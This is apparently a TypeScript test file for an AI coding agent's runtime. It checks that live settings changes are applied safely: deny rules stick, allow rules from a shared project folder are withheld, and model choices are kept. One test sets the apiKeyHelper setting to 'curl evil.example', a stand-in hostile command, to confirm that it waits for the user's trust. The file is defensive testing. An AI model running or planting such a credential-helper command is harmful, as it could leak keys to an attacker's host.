/** Settings that change while a session is open, through the whole runtime. */
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Fiber from "effect/Fiber"
import * as Layer from "effect/Layer"
import * as Option from "effect/Option"
import * as PubSub from "effect/PubSub"
import * as Stream from "effect/Stream"
import * as TestClock from "effect/testing/TestClock"
import type { Agent } from "../../src/agents/Agent.ts"
import { HttpFetch } from "../../src/platform/HttpFetch.ts"
import { Process } from "../../src/platform/Process.ts"
import { Ripgrep } from "../../src/platform/Ripgrep.ts"
import { type Change, Watch } from "../../src/platform/Watch.ts"
import type { Event } from "../../src/protocol/Event.ts"
import * as Runtime from "../../src/Runtime.ts"
import { append, type Edit, remove, set } from "../../src/settings/SettingsEdit.ts"
import { write } from "../../src/settings/SettingsWriter.ts"
import * as MemoryWorkspace from "../../src/testing/MemoryWorkspace.ts"
import { ScriptedModel } from "../../src/testing/ScriptedModel.ts"
import { hurried, only, open } from "./session.ts"

const mine = "/home/user/.claude/settings.json"
const shared = "/work/.claude/settings.json"

const book = {
  rules: [{ when: { tool: "Note" }, reply: "Done." }, { reply: [{ tool: "Note", input: { text: "a" } }] }],
}

/** A runtime that reads and watches settings, and the way to change them as another process does. */
const world = Effect.gen(function* () {
  const bursts = yield* PubSub.unbounded<ReadonlyArray<Change>>()
  const platform = Ripgrep.layerAt("rg").pipe(
    Layer.provideMerge(Process.layerScripted(() => Effect.succeed({}))),
    Layer.provideMerge(MemoryWorkspace.layer({ [mine]: '{"model": "haiku"}', "/work/.git/HEAD": "" })),
    Layer.merge(Layer.succeed(HttpFetch, () => Promise.reject(new Error("no network")))),
    Layer.merge(Watch.layerOf(bursts)),
  )
  const runtime = Runtime.layer({ settings: "project", provider: ScriptedModel.layer(book) })
  const context = yield* Layer.build(runtime.pipe(Layer.provideMerge(platform)))
  yield* TestClock.adjust("1 second")
  /** Changes a file and waits for what the session says about it. */
  const change = Effect.fnUntraced(function* (
    agent: Agent,
    file: string,
    edits: ReadonlyArray<Edit>,
    heard: Event["_tag"],
  ) {
    const seen = yield* agent.watch
    const told = yield* Effect.forkChild(Stream.runHead(Stream.filter(seen, ({ _tag }) => _tag === heard)))
    yield* write(file, edits)
    yield* PubSub.publish(bursts, [{ type: "changed", path: file }])
    return Option.getOrThrow(yield* Fiber.join(told))
  })
  return { change, context }
})

const inWorld = <A, E, R>(use: (change: Effect.Success<typeof world>["change"]) => Effect.Effect<A, E, R>) =>
  Effect.scoped(Effect.flatMap(world, ({ change, context }) => Effect.provideContext(use(change), context)))

const outcome = (agent: Agent) =>
  Effect.map(hurried(Stream.runCollect(agent.prompt("Go"))), (events) => only(events, "ToolEnded")[0]?.outcome)

describe("an open session whose settings change", () => {
  it.effect("obeys a new rule that forbids at once, and keeps it when it is taken away", () =>
    inWorld(
      Effect.fnUntraced(function* (change) {
        const agent = yield* open({})
        assert.strictEqual(yield* outcome(agent), "completed")
        const event = yield* change(agent, shared, [append(["permissions", "deny"], "Note")], "ConfigChanged")
        assert.deepStrictEqual(event, {
          _tag: "ConfigChanged",
          source: "project",
          file: shared,
          keys: ["permissions.deny"],
          withheld: [],
        })
        assert.strictEqual(yield* outcome(agent), "denied")
        yield* change(agent, shared, [remove(["permissions"])], "ConfigChanged")
        assert.strictEqual(yield* outcome(agent), "denied")
        assert.strictEqual(yield* outcome(yield* open({})), "completed")
      }),
    ),
  )

  it.effect("allows more when its owner says so, and not when the folder does", () =>
    inWorld(
      Effect.fnUntraced(function* (change) {
        const agent = yield* open({ permissionMode: "dontAsk" })
        const allow = [append(["permissions", "allow"], "Note")]
        const event = yield* change(agent, shared, allow, "ConfigChanged")
        assert.deepInclude(event, { source: "project", withheld: ["permissions.allow"] })
        assert.strictEqual(yield* outcome(agent), "denied")
        yield* change(agent, mine, allow, "ConfigChanged")
        assert.strictEqual(yield* outcome(agent), "completed")
        yield* change(agent, mine, [remove(["permissions"])], "ConfigChanged")
        assert.strictEqual(yield* outcome(agent), "denied")
      }),
    ),
  )

  it.effect("says when something waits for trust", () =>
    inWorld(
      Effect.fnUntraced(function* (change) {
        const agent = yield* open({})
        const said = yield* change(agent, shared, [set(["apiKeyHelper"], "curl evil.example")], "Diagnosed")
        assert(said._tag === "Diagnosed")
        assert.match(said.message, /apiKeyHelper: not in force until you agree/)
      }),
    ),
  )

  it.effect("takes the new model, unless somebody chose one for it", () =>
    inWorld(
      Effect.fnUntraced(function* (change) {
        const [follows, chosen, told] = [yield* open({}), yield* open({}), yield* open({ model: "haiku" })]
        yield* chosen.setModel("opus")
        yield* change(follows, mine, [set(["model"], "sonnet")], "ControlsChanged")
        assert.strictEqual((yield* follows.controls).model, "sonnet")
        assert.strictEqual((yield* chosen.controls).model, "opus")
        assert.strictEqual((yield* told.controls).model, "haiku")
        assert.strictEqual((yield* (yield* open({})).controls).model, "sonnet")
      }),
    ),
  )
})
